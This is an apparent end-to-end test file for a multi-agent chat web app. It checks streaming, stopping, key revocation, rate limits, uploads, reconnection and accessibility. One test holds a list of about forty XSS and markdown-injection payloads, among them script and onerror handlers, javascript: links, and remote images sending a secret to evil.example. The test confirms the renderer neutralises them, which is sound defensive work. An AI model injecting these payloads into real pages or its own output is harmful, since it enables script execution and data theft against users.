/** The agents as people use them: cards, chats, and what happens when something goes wrong in the middle of an answer. */
import type { BrowserContextOptions, Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import type { GatePlace } from '../../server/test/provider.ts';
import { lookAt } from './look.ts';
import { newKey, openLine, openStage, type Stage, until, type Visitor } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage({ PLATFORM_OPENAI_API_KEY: platformKey });
  stage.provider.key(platformKey, 'good');
  return () => stage[Symbol.asyncDispose]();
});

const platformKey = 'sk-platform-0123456789abcdef';

/** Somebody of that tier, with a key of their own that works. */
async function owner(tier = 'premium', options?: BrowserContextOptions) {
  const user = await stage.user(tier, { reducedMotion: 'reduce', ...options });
  const key = newKey('openai');
  stage.provider.key(key, 'good');
  await user.call('keys.save', { provider: 'openai', apiKey: key });
  return { ...user, key };
}

let regularCookies: Promise<Awaited<ReturnType<Visitor['context']['storageState']>>> | undefined;

/** The same owner in a browser of their own, for tests that need nobody fresh. */
async function regular(options?: BrowserContextOptions): Promise<Visitor> {
  regularCookies ??= owner().then(({ context }) => context.storageState());
  return stage.visitor({ reducedMotion: 'reduce', storageState: await regularCookies, ...options });
}

/** The next answer of a provider. */
const answerWith = (text: string, more: { chunks?: number; chunkDelayMs?: number } = {}) =>
  stage.provider.next({ text, ...more }, { method: 'POST', path: inference });
const inference = /chat\/completions|messages/;
const gate = (place: GatePlace) => stage.provider.gate(place, { method: 'POST', path: inference });
const bodies = () => stage.provider.requests.filter(({ path }) => inference.test(path)).map(({ body }) => body.toString());

const field = (page: Page, name = 'Software Developer') => page.getByRole('textbox', { name: `Message to ${name}` });
const answers = (page: Page) => page.getByRole('article').filter({ has: page.getByRole('heading', { name: /answered$/ }) });
const lastText = (page: Page) => page.locator('.answer .text').last();
const said = async (page: Page) => ((await lastText(page).textContent()) ?? '').trim();
/** The last answer is this one, and over. */
const answered = (page: Page, text: string) =>
  until(async () => (await said(page)) === text && (await page.getByRole('button', { name: /^(Regenerate|Try again)$/ }).isVisible()));
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
/** What the server has of the conversation that the page shows. */
async function keptIn(page: Page): Promise<{ role: string; content: string }[]> {
  const answer = await page.request.get(`/api/v1/conversations/${page.url().split('/').at(-1)}`);
  return ((await answer.json()) as { messages: { role: string; content: string }[] }).messages;
}
const talks = (page: Page) => page.getByRole('complementary', { name: 'Conversations' });

async function ask(page: Page, text: string, name?: string): Promise<void> {
  await field(page, name).fill(text);
  await page.keyboard.press('Enter');
}

const markdown = `Here is a **short** plan, with \`inline code\` and a [link](https://example.com/docs).

## Steps

1. Measure first.
2. Then change *one* thing:
   - the query,
   - or the index.

| Option | Cost | Risk |
| :-- | --: | :-: |
| Cache | $12 | low |
| Rewrite of the whole storage engine | $4,000 | high |

\`\`\`ts
export async function load(id: string): Promise<User> {
  const row = await db.get('select * from users where id = ?', id); // one row
  if (!row) throw new Error(\`No user \${id} with a line that is rather long so that it has to be scrolled\`);
  return { ...row, age: 42 };
}
\`\`\`

> Premature optimisation is the root of all evil.

![A picture](https://tracker.example/pixel.png)`;

test('an answer streams in, is said by sentences, keeps its conversation, and the next question goes on in it', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/developer');
  answerWith('First sentence. Second **one** comes.', { chunks: 8 });
  const standing = gate(4);
  await ask(page, 'Hello there');
  await standing.reached;
  await until(async () => (await said(page)).startsWith('First'));
  expect(await lastText(page).textContent()).not.toContain('comes');
  expect(await field(page).inputValue()).toBe('');
  await button(page, 'Stop').waitFor();
  standing.open();
  await button(page, 'Regenerate').waitFor();
  expect(await lastText(page).innerHTML()).toContain('Second <strong>one</strong> comes.');
  expect(await page.getByRole('log').locator('p').allTextContents()).toEqual([
    'Software Developer is writing.',
    'First sentence.',
    'Second one comes.',
    'The answer is complete.',
  ]);
  expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/);
  await page.getByRole('heading', { name: 'Hello there', level: 1 }).waitFor();
  await talks(page).getByRole('link', { name: 'Hello there' }).waitFor();
  await answers(page).getByRole('button', { name: 'Your key' }).click();
  await answers(page).getByText('Your own OpenAI key pays.').waitFor();
  await page.getByText(/\d tokens · \$0\.00/).waitFor();

  answerWith('And on.');
  await ask(page, 'Go on');
  await answered(page, 'And on.');
  expect(await answers(page).count()).toBe(2);
  expect(bodies().at(-1)).toContain('Second **one** comes.');
  await page.reload();
  await answered(page, 'And on.');
  expect(await answers(page).count()).toBe(2);
  expect(complaints()).toEqual([]);
});

test('stop ends the answer at the provider, too; regenerate makes it anew; an edited question replaces what came after', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/developer');
  answerWith('One two three four five six seven.', { chunks: 8 });
  const standing = gate(3);
  await ask(page, 'Count');
  await standing.reached;
  await until(async () => (await said(page)).startsWith('One'));
  const asked = stage.provider.requests.at(-1);
  await button(page, 'Stop').click();
  await page.getByText('Stopped by you.').waitFor();
  expect(await asked?.settled).toBe('aborted');
  expect(await lastText(page).textContent()).toMatch(/^One/);

  answerWith('Anew.');
  await button(page, 'Regenerate').click();
  await answered(page, 'Anew.');
  expect(await answers(page).count()).toBe(1);

  answerWith('Edited.');
  await button(page, 'Edit').click();
  await page.getByRole('textbox', { name: 'Edit your message' }).fill('Count **backwards**');
  await page.keyboard.press('Enter');
  await answered(page, 'Edited.');
  expect(await page.getByText('Count **backwards**').count()).toBe(1);
  await page.reload();
  await answered(page, 'Edited.');
  expect(await page.locator('.said').count()).toBe(1);
  expect(complaints()).toEqual([]);
});

test('the General Assistant proposes a colleague, and one click goes on there with what was said', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/general');
  answerWith('Our developer knows.\n\n<handover to="developer"/>', { chunks: 12 });
  await ask(page, 'Why does my query crawl?', 'General Assistant');
  await button(page, 'Continue with Software Developer').waitFor();
  expect(await said(page)).toBe('Our developer knows.');
  answerWith('It lacks an index.');
  await button(page, 'Continue with Software Developer').click();
  await answered(page, 'It lacks an index.');
  await field(page, 'Software Developer').waitFor();
  expect(bodies().at(-1)).toMatch(/Why does my query crawl.*Our developer knows/s);
  expect(complaints()).toEqual([]);
});

test('another model, of another provider, answers from the next question on', async () => {
  const { page, call, complaints } = await owner();
  const key = newKey('anthropic');
  stage.provider.key(key, 'good');
  await call('keys.save', { provider: 'anthropic', apiKey: key });
  await page.goto('/agents/developer');
  answerWith('From the first.');
  await ask(page, 'Who are you?');
  await answered(page, 'From the first.');
  await page.getByRole('button', { name: /^Model: / }).click();
  const dialog = page.getByRole('dialog', { name: 'Choose a model' });
  await dialog.getByRole('radio', { name: /^Automatic/ }).waitFor();
  await dialog.getByRole('searchbox', { name: 'Filter models' }).fill('haiku-4-5');
  const model = dialog.getByRole('radio', { name: /^claude-haiku-4-5(?!-)/ }).first();
  await model.check();
  await dialog
    .getByText(/\$1(\.00)?$/)
    .first()
    .waitFor();
  await dialog.locator('.modal__actions').getByRole('button', { name: 'Close' }).click();
  await page.getByText('Your own Anthropic key pays.').waitFor();
  answerWith('From the second.');
  await ask(page, 'And you?');
  await answered(page, 'From the second.');
  await answers(page).last().getByText('claude-haiku-4-5').waitFor();
  expect(stage.provider.requests.at(-1)?.path).toBe('/v1/messages');
  expect(complaints()).toEqual([]);
});

test('a key that is revoked in the middle of a conversation: the platform’s answers, and why is said', async () => {
  const { page, key, complaints } = await owner();
  await page.goto('/agents/developer');
  answerWith('On your key.');
  await ask(page, 'One');
  await answers(page).getByRole('button', { name: 'Your key' }).waitFor();
  stage.provider.key(key, 'invalid_api_key');
  await ask(page, 'Two');
  await answers(page).last().getByRole('button', { name: 'Platform’s key' }).click();
  await answers(page).last().getByText('OpenAI has just refused yours').waitFor();
  await page.getByText('OpenAI does not accept yours.').waitFor();
  await page.getByText(/left (this minute|today)/).waitFor();
  expect(complaints()).toEqual([]);
});

test('a key that is revoked where the platform has none: the question stays, and is answered once the key is mended', async () => {
  const { page, call, complaints } = await stage.user('premium', { reducedMotion: 'reduce' });
  const key = newKey('anthropic');
  stage.provider.key(key, 'good');
  const { key: stored } = (await call('keys.save', { provider: 'anthropic', apiKey: key })) as { key: { id: string } };
  await page.goto('/agents/developer');
  answerWith('All is well.');
  await ask(page, 'One');
  await answered(page, 'All is well.');
  stage.provider.key(key, 'authentication_error');
  await ask(page, 'Two');
  await page.getByRole('alert').filter({ hasText: 'Anthropic' }).waitFor();
  await page.getByText('There is no Anthropic key that could be used.').waitFor();
  stage.provider.key(key, 'good');
  await call('keys.test', { id: stored.id });
  answerWith('Again well.');
  await button(page, 'Try again').click();
  await answered(page, 'Again well.');
  expect(await page.locator('.said').allTextContents()).toEqual([expect.stringContaining('One'), expect.stringContaining('Two')]);
  expect(complaints()).toEqual([]);
});

test('a limit that is reached in the middle of a conversation is said with when it goes on', async () => {
  const { page, call, complaints } = await stage.user('community', { reducedMotion: 'reduce' });
  const { secret } = (await call('tokens.create', { name: 'elsewhere' })) as { secret: string };
  for (let n = 0; n < 9; n += 1) {
    const answer = await fetch(`${stage.origin}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'gpt-4.1-mini', messages: [{ role: 'user', content: 'x' }] }),
    });
    await answer.text();
  }
  await page.goto('/agents/general');
  await page.getByText('1 of 10 left this minute').waitFor();
  answerWith('The last one.');
  await ask(page, 'One', 'General Assistant');
  await answered(page, 'The last one.');
  await page.getByText(/^Your limit is reached\. Next place free/).waitFor();
  await ask(page, 'Two', 'General Assistant');
  await page.getByRole('alert').filter({ hasText: '10 requests a minute' }).waitFor();
  await button(page, 'Try again').waitFor();
  expect(await answers(page).first().textContent()).toContain('The last one.');
  await page.goto('/agents');
  await page.getByText('With Premium or Lifetime you have all six').waitFor();
  expect(await page.getByText('Premium and Lifetime', { exact: true }).count()).toBe(5);
  await page.goto('/agents/designer');
  await page.getByRole('link', { name: 'See the plans' }).waitFor();
  expect(await page.getByRole('textbox', { name: /^Message/ }).count()).toBe(0);
  expect(complaints()).toEqual([]);
});

test('text files go along with a question; what is no text, too much or too large is left out, and said', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/developer');
  await field(page).waitFor();
  const picker = page.locator('input[type=file]');
  const text = (name: string, content: string) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(content) });
  await picker.setInputFiles([
    text('a "quoted".ts', 'const a = 1;'),
    { name: 'b.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0, 0xff]) },
  ]);
  await page.getByText('“b.png” was left out: only text files').waitFor();
  await picker.setInputFiles([text('large.txt', 'x'.repeat(200_001))]);
  await page.getByText('“large.txt” was left out: all files together').waitFor();
  await picker.setInputFiles(['1', '2', '3', '4', '5'].map((name) => text(name, name)));
  await page.getByText('“5” was left out: at most 5 files').waitFor();
  for (const name of ['4', '3', '2', '1']) await page.getByRole('button', { name: `Remove ${name}`, exact: true }).click();
  answerWith('Read.');
  await ask(page, 'Look at this');
  await answered(page, 'Read.');
  await page.locator('.said').getByText('a -quoted-.ts').waitFor();
  expect(bodies().at(-1)).toContain('const a = 1;');
  expect(await page.locator('.composer .files').count()).toBe(0);
  expect(complaints()).toEqual([]);
});

test('conversations are found, renamed, taken along as a file and deleted', async () => {
  const { page, complaints } = await owner();
  for (const title of ['About apples', 'About pears', 'Something else']) {
    await page.goto('/agents/developer');
    answerWith(`Answer on ${title}.`);
    await ask(page, title);
    await answered(page, `Answer on ${title}.`);
  }
  await talks(page).getByRole('link', { name: 'About apples' }).waitFor();
  await page.getByRole('searchbox', { name: 'Search titles' }).fill('about');
  await until(async () => (await talks(page).getByRole('listitem').count()) === 2);
  await page.getByRole('searchbox', { name: 'Search titles' }).fill('cherries');
  await page.getByText('No title has “cherries” in it.').waitFor();
  await page.getByRole('searchbox', { name: 'Search titles' }).fill('');

  await page.getByRole('button', { name: 'Actions for “Something else”' }).click();
  for (const [format, file, holds] of [
    ['Markdown', /^conversation-.*\.md$/, '## Software Developer'],
    ['JSON', /^conversation-.*\.json$/, '"content":"Answer on Something else."'],
  ] as const) {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: `Export as ${format}` }).click()]);
    expect(download.suggestedFilename()).toMatch(file);
    const chunks: Buffer[] = [];
    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).toString()).toContain(holds);
  }
  await button(page, 'Rename').click();
  await page.getByRole('dialog').getByRole('textbox', { name: 'Title' }).fill('  ');
  await button(page, 'Save').click();
  await page.getByText('A conversation needs a title.').waitFor();
  await page.getByRole('dialog').getByRole('textbox', { name: 'Title' }).fill('About plums');
  await button(page, 'Save').click();
  await talks(page).getByRole('link', { name: 'About plums' }).waitFor();
  await page.getByRole('heading', { name: 'About plums', level: 1 }).waitFor();

  await button(page, 'Delete').click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('heading', { name: 'AI Cofounders', level: 1 }).waitFor();
  await until(async () => (await talks(page).getByRole('listitem').count()) === 2);
  await button(page, 'Delete all').click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete all' }).click();
  await page.getByText('Your conversations will be listed here.').waitFor();
  expect(complaints()).toEqual([]);
});

test('who keeps nothing has the conversation as long as the page is open', async () => {
  const { page, call, complaints } = await owner();
  await page.goto('/agents/developer');
  await page.getByRole('switch', { name: 'Keep conversations' }).click();
  await page.getByText('Nothing of this chat is kept').waitFor();
  answerWith('Remembered for now.');
  await ask(page, 'One');
  await answered(page, 'Remembered for now.');
  answerWith('Once more.');
  await button(page, 'Regenerate').click();
  await answered(page, 'Once more.');
  answerWith('Goes on.');
  await ask(page, 'Two');
  await answered(page, 'Goes on.');
  expect(bodies().at(-1)).toContain('Once more.');
  expect(bodies().at(-1)).not.toContain('Remembered for now.');
  expect(page.url()).toMatch(/\/agents\/developer$/);
  expect(await call('conversations.setKeeping', { keep: false })).toEqual({ keep: false });
  await page.reload();
  await field(page).waitFor();
  expect(await answers(page).count()).toBe(0);
  await page.getByText('Your conversations will be listed here.').waitFor();
  expect(complaints()).toEqual([]);
});

test('two tabs do not mix, and one conversation in two tabs is the same in both', async () => {
  const { page, newPage, complaints } = await regular();
  const second = await newPage();
  await page.goto('/agents/developer');
  await second.goto('/agents/designer');
  const standing: ReturnType<typeof gate>[] = [];
  for (const [tab, name, letter] of [
    [page, 'Software Developer', 'a'],
    [second, 'Designer', 'b'],
  ] as const) {
    await tab.bringToFront();
    answerWith(`${letter} `.repeat(40), { chunks: 20 });
    const one = gate(5);
    standing.push(one);
    await ask(tab, `Only ${letter}`, name);
    await one.reached;
  }
  for (let n = 0; n < 5; n += 1) for (const one of standing) await one.step(2);
  for (const one of standing) one.open();
  for (const [tab, letter] of [
    [page, 'a'],
    [second, 'b'],
  ] as const) {
    await tab.bringToFront();
    await button(tab, 'Regenerate').waitFor();
    expect(await said(tab)).toBe(`${letter} `.repeat(40).trim());
    await talks(tab).getByRole('link', { name: 'Only a' }).waitFor();
    await talks(tab).getByRole('link', { name: 'Only b' }).waitFor();
  }
  await second.goto(page.url());
  await until(async () => (await said(second)).startsWith('a a a'));
  answerWith('Seen in both.');
  await page.bringToFront();
  await ask(page, 'And now?');
  await answered(page, 'Seen in both.');
  await second.bringToFront();
  await answered(second, 'Seen in both.');
  expect(complaints()).toEqual([]);
});

test('a server that is restarted in the middle of an answer: what was said stays, and trying again works', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/developer');
  answerWith('So far so good, and then it goes on.', { chunks: 9 });
  const standing = gate(5);
  await ask(page, 'Tell me');
  await standing.reached;
  await until(async () => (await said(page)).startsWith('So far'));
  const before = await said(page);
  // What was said is written every two seconds.
  await until(async () => (await keptIn(page)).some(({ role, content }) => role === 'assistant' && content !== ''));
  await stage.restart(async () => void (await page.getByText('The connection broke. Reconnecting').waitFor()));
  await page.getByRole('alert').filter({ hasText: 'The server was restarted while it answered.' }).waitFor();
  expect(await said(page)).toBe(before);
  await page.reload();
  await page.getByRole('alert').filter({ hasText: 'The server was restarted while it answered.' }).waitFor();
  expect((await said(page)).length).toBeGreaterThan(3);
  expect(before).toContain(await said(page));
  answerWith('Whole this time.');
  await button(page, 'Try again').click();
  await answered(page, 'Whole this time.');
  expect(await answers(page).count()).toBe(1);
  expect(complaints(/ERR_|status of (404|502)|Failed to (load|fetch)/)).toEqual([]);
});

test('an answer goes on where it was when the connection had dropped', async () => {
  await using line = await openLine();
  await using other = await openStage({}, line);
  const { page, call, complaints } = await other.user('premium');
  const key = newKey('openai');
  other.provider.key(key, { text: 'Before the break, during the break, and after it.', chunks: 13 });
  await call('keys.save', { provider: 'openai', apiKey: key });
  await page.goto('/agents/developer');
  const standing = other.provider.gate(5, { path: inference });
  await ask(page, 'Go on in any case');
  await standing.reached;
  await until(async () => (await said(page)).startsWith('Before'));
  line.cut();
  await page.getByText('The connection broke. Reconnecting').waitFor();
  standing.open();
  await answered(page, 'Before the break, during the break, and after it.');
  expect(await page.getByText('Reconnecting').count()).toBe(0);
  expect(complaints(/ERR_CONNECTION_RESET|ERR_INCOMPLETE/)).toEqual([]);
});

/** Each by itself is harmless text or a dead link; together they are what models have been made to say. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Go</button></form>',
  '<a href="javascript:alert(1)">raw</a>',
  '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="background: url(https://evil.example/b.png)" onclick=alert(1)>styled</div>',
  '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
  '![remote](https://evil.example/pixel.png?q=secret)',
  '![remote by name][p]\n\n[p]: https://evil.example/named.png',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/"onload="alert(1))',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](vbscript:msgbox(1)) [click](data:text/html,<script>alert(1)</script>) [click](file:///etc/passwd) [click](blob:x) [click](//evil.example/x)',
  '[click]( java\nscript:alert(1))',
  '[a](<javascript:alert(1)>) [b][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)> <https://evil.example/auto" onmouseover="alert(1)>',
  '[title](https://safe.example "x\\" onmouseover=\\"alert(1)")',
  'https://evil.example/"onmouseover=alert(1)// and www.evil.example/<script>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html onload=alert(1) class="x\n<img src=x onerror=alert(1)>\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| a | b |\n| :-: | --: |\n| <img src=x onerror=alert(1)> | ![](https://evil.example/t.png) |',
  '# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  '<handover to="developer" onload="alert(1)"/> <x-y is=z onclick=alert(1)>',
];

test('what a model says runs nothing, fetches nothing and leads nowhere but to http, https and mail', async () => {
  const { page, context, complaints } = await regular();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('/agents/developer');
  // Cut anywhere: half of a payload must be as harmless as the whole.
  answerWith(payloads.join('\n\n'), { chunks: 400 });
  await field(page).fill(payloads.join('\n'));
  await button(page, 'Send').click();
  await button(page, 'Regenerate').waitFor();
  await page.reload();
  await button(page, 'Regenerate').waitFor();
  const found = await lastText(page).evaluate((text) => ({
    elements: [...new Set([...text.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))].sort(),
    attributes: [...new Set([...text.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()))].sort(),
    schemes: [...new Set([...text.querySelectorAll('a[href]')].map((link) => (link as HTMLAnchorElement).protocol))].sort(),
    rels: [...new Set([...text.querySelectorAll('a')].map(({ rel, target }) => `${rel} ${target}`))],
  }));
  const expected = 'a blockquote br button code div em h3 li ol p pre span strong table tbody td th thead tr ul'.split(' ');
  expect(found.elements.filter((name) => !expected.includes(name))).toEqual([]);
  expect(found.attributes.filter((name) => !['class', 'href', 'rel', 'target', 'tabindex', 'type'].includes(name))).toEqual([]);
  expect(found.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))).toEqual([]);
  expect(found.rels).toEqual(['noopener noreferrer nofollow _blank']);
  // What was meant as text is there as text: so the payloads did get here.
  expect(await lastText(page).textContent()).toContain('<script>alert(1)</script>');
  for (const link of await lastText(page).locator('a:not([href])').all()) await link.click({ timeout: 1_000 });
  await page.mouse.move(640, 400);
  expect(context.pages()).toHaveLength(1);
  expect(dialogs).toEqual([]);
  expect(complaints()).toEqual([]);

  // The same, put into the page as it is, is noticed.
  await page.evaluate((html) => document.querySelector('.answer .text')?.insertAdjacentHTML('beforeend', html), payloads.join(''));
  await until(() => /CSP: script-src/.test(complaints().join()) && /CSP: img-src/.test(complaints().join()));
  await context.close();
});

/** 20,000 tokens of what answers are made of: paragraphs, lists, tables and code. */
const longAnswer = Array.from(
  { length: 65 },
  (_, n) => `## Part ${n}

${'Words with **weight**, `names` and [links](https://example.com/a) follow each other for a while. '.repeat(5)}

- one point, then
- another one, *slanted*

${n % 4 ? '' : '| a | b |\n| - | -: |\n| some cell | 12 |\n| another cell | 3,400 |\n'}
\`\`\`ts
export const part${n} = (value: number): string => \`\${value * ${n}} parts\`; // a remark
for (const each of [1, 2, 3]) console.log(part${n}(each), 'and more of it', { each, twice: each * 2 });
${'const more = await fetch(address, { method: "POST", body: JSON.stringify({ a: 1 }) });\n'.repeat(4)}\`\`\`
`,
).join('\n');

test('an answer of 20,000 tokens streams without the page growing slow (the figures are printed, not held)', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents/developer');
  await page.evaluate(() => {
    const seen = { frames: [] as number[], firstAtMs: 0 };
    Object.assign(globalThis, { __seen: seen });
    let last = performance.now();
    const frame = (now: number) => {
      seen.frames.push(now - last);
      last = now;
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    new MutationObserver(() => {
      if (seen.firstAtMs === 0 && document.querySelector('.answer .text')?.textContent) seen.firstAtMs = Date.now();
    }).observe(document.body, { childList: true, subtree: true });
  });
  answerWith(longAnswer, { chunks: 5_000, chunkDelayMs: 1 });
  const standing = gate('body');
  await ask(page, 'Tell me everything');
  await standing.reached;
  await page.evaluate(() => void ((globalThis as unknown as { __seen: { frames: number[] } }).__seen.frames.length = 0));
  const openedAtMs = Date.now();
  standing.open();
  // Looked for seldom, since looking costs frames, too.
  await page.waitForFunction(() => document.querySelector('.answer__foot'), null, { polling: 250, timeout: 50_000 });
  const tookMs = Date.now() - openedAtMs;
  const { frames, firstAtMs } = await page.evaluate(
    () => (globalThis as unknown as { __seen: { frames: number[]; firstAtMs: number } }).__seen,
  );
  const sorted = frames.sort((a, b) => a - b);
  const at = (part: number) => (sorted[Math.floor(part * (sorted.length - 1))] ?? Number.NaN).toFixed(1);
  console.info(
    `20,000 tokens (${longAnswer.length.toLocaleString('en')} characters) in ${tookMs} ms: first text after ${firstAtMs - openedAtMs} ms; ` +
      `${sorted.length} frames, ${at(0.5)} ms at the median, ${at(0.95)} at p95, ${at(0.99)} at p99, ${at(1)} at most`,
  );
  expect(await page.locator('.answer .text h3').count()).toBe(65);
  expect(await page.locator('.answer .text .code').count()).toBe(65);
  await until(() => page.locator('.code .hljs-keyword').last().isVisible());
  expect(
    await page.evaluate(() => {
      const place = document.querySelector('.chat__place');
      return place ? place.scrollHeight - place.scrollTop - place.clientHeight : -1;
    }),
  ).toBeLessThan(30);
  expect(complaints()).toEqual([]);
});

test('the agents, a new chat and an answer are accessible and whole on phone and desktop, in light and dark, in German', async () => {
  const { page, complaints } = await regular();
  await page.goto('/agents');
  await page.getByRole('heading', { name: 'SEO Writer' }).waitFor();
  await lookAt(page, 'agents');
  await page.evaluate(() => dispatchEvent(new StorageEvent('storage', { key: 'byok-language', newValue: 'en' })));
  await page.goto('/agents/developer');
  await field(page).waitFor();
  await lookAt(page, 'chat-new');
  await page.goto('/agents/developer');
  stage.provider.next({ text: markdown }, { path: /chat\/completions/ });
  await ask(page, 'How do I make this faster?');
  await page.getByRole('button', { name: 'Regenerate' }).waitFor();
  await until(() => page.locator('.hljs-keyword').first().isVisible());
  await lookAt(page, 'chat');
  expect(complaints()).toEqual([]);
});
